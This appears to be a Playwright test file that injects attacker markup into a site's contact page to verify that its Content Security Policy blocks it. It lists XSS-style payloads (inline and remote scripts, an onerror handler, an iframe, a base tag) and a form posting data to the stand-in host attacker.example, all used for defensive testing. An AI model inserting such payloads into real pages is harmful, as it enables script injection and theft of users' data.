import type { Page } from "playwright/test";
import { test as base, expect, untilLive } from "#site/quiet-page.ts";
import { routes } from "#site/routes.ts";

/*
 * `engines/content-policy.spec.ts` tests what injected scripts try once they run;
 * `platform/server/src/security/security-headers.test.ts` that no other site may frame a page.
 */

/** Another site's origin. Nothing listens there: these tests answer its requests. */
const foreign = "http://attacker.example";

/** The page that is attacked. */
const path = routes.contact.en;

/**
 * A page that also returns what its policies blocked, as the directive and an address or `inline`,
 * in all documents of the tab, and the requests to the foreign origin. Its console messages about
 * attacks do not fail the test.
 */
const test = base.extend<{ refusals: string[]; requests: string[] }>({
  refusals: async ({ page, messages }, use) => {
    const refusals: string[] = [];
    await page.exposeFunction("noteRefusal", (refusal: string) => refusals.push(refusal));
    await page.addInitScript(() => {
      const { noteRefusal } = window as unknown as { noteRefusal: (refusal: string) => void };
      addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
        noteRefusal(`${effectiveDirective} ${blockedURI.replace(/\/$/, "")}`),
      );
    });
    await use(refusals);
    messages.length = 0;
  },
  requests: async ({ page }, use) => {
    const requests: string[] = [];
    await page.route(`${foreign}/**`, (route) => {
      requests.push(route.request().url());
      return route.fulfill({
        contentType: "text/javascript",
        headers: { "access-control-allow-origin": "*" },
        body: "window.owned = true",
      });
    });
    await use(requests);
  },
});

/** Whether an attack got through: each attack sets this variable. */
const isOwned = (page: Page) => page.evaluate(() => "owned" in window);

/** Opens a page whose stored markup an attacker has changed; its headers are the server's. */
async function openWith(page: Page, markup: string): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const { "content-encoding": _, "content-length": __, ...headers } = response.headers();
    // Outside of React's root, where hydration leaves it as it is.
    const html = (await response.text()).replace(/<body[^>]*>/, (body) => body + markup);
    expect(html).toContain(markup);
    await route.fulfill({ status: 200, headers, body: html });
  });
  await page.goto(path);
  await page.waitForLoadState("load");
}

/** What an attacker adds to the markup, by the refusing directive and what it reports. */
const inMarkup = {
  "script-src-elem inline": "<script>window.owned = true</script>",
  "script-src-attr inline": '<img alt="" src="data:," onerror="window.owned = true">',
  [`script-src-elem ${foreign}/script.js`]: `<script src="${foreign}/script.js"></script>`,
  [`script-src-elem ${foreign}/module.js`]: `<script type="module" src="${foreign}/module.js"></script>`,
  "script-src-elem data": '<script src="data:text/javascript,window.owned = true"></script>',
  "style-src-elem inline": "<style>main { display: none }</style>",
  [`style-src-elem ${foreign}/style.css`]: `<link rel="stylesheet" href="${foreign}/style.css">`,
  [`frame-src ${foreign}`]: `<iframe src="${foreign}/frame"></iframe>`,
  [`object-src ${foreign}`]: `<object data="${foreign}/object"></object>`,
  [`img-src ${foreign}/pixel.png`]: `<img alt="" src="${foreign}/pixel.png">`,
  [`base-uri ${foreign}`]: `<base href="${foreign}/">`,
};

test("attacks in the markup are refused, and the page is seen", async ({
  page,
  refusals,
  requests,
}) => {
  await openWith(page, Object.values(inMarkup).join(""));
  const expected = Object.keys(inMarkup);
  await expect.poll(() => refusals).toEqual(expect.arrayContaining(expected));
  expect(await isOwned(page)).toBe(false);
  expect(requests).toEqual([]);
  await expect(page.getByRole("main")).toBeVisible();
});

test("a form in the markup sends nothing elsewhere", async ({ page, refusals, requests }) => {
  const form = `<form action="${foreign}/take" method="post"><input name="a" value="b"><button>Go</button></form>`;
  await openWith(page, form);
  await page.getByRole("button", { name: "Go" }).evaluate((button: HTMLElement) => button.click());
  await expect.poll(() => refusals.join()).toContain("form-action ");
  expect(requests).toEqual([]);
  expect(new URL(page.url()).pathname).toBe(path);
});

test("an element with the id of the page's composition does not stop its code", async ({
  page,
  refusals: _,
}) => {
  await openWith(page, '<h2 id="composition">How we compose</h2>');
  await untilLive(page);
});
